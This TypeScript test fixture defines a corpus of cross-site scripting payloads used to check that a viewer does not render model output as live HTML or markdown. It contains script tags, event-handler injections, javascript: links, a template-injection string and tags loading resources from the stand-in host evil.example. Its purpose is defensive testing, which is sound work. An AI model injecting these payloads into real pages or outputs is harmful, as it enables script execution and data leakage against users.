/**
 * Content that would run script, load a resource or inject markup if the viewer rendered model
 * output as HTML or markdown. Every external URL points at `evil.example`: the browser test fails
 * on any request that leaves localhost, and on any dialog or `window.__xss` write.
 */
export const XSS_MARKER = 'XSS-CORPUS';

export const XSS_CORPUS = [
  `<script>window.__xss = 'script'; alert('script')</script>`,
  `<img src=x onerror="window.__xss='img'; alert('img')">`,
  `<img src="https://evil.example/pixel.png">`,
  `![tracking pixel](https://evil.example/md-image.png)`,
  `[click me](javascript:alert('md-link'))`,
  `<svg onload="window.__xss='svg'"><circle r="5"/></svg>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<a href="javascript:alert('a')" id="injected-link">link</a>`,
  `<style>@import url('https://evil.example/style.css'); body { background: url(https://evil.example/bg.png) }</style>`,
  `<link rel="stylesheet" href="https://evil.example/link.css">`,
  `<object data="https://evil.example/obj.swf"></object>`,
  `<details open ontoggle="window.__xss='details'">`,
  `"><script src="https://evil.example/x.js"></script>`,
  `{{constructor.constructor('window.__xss=1')()}}`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
] as const;

/** One prompt carrying the whole corpus, marked so the test can find it on the page. */
export const XSS_PROMPT = `${XSS_MARKER}\n${XSS_CORPUS.join('\n')}`;
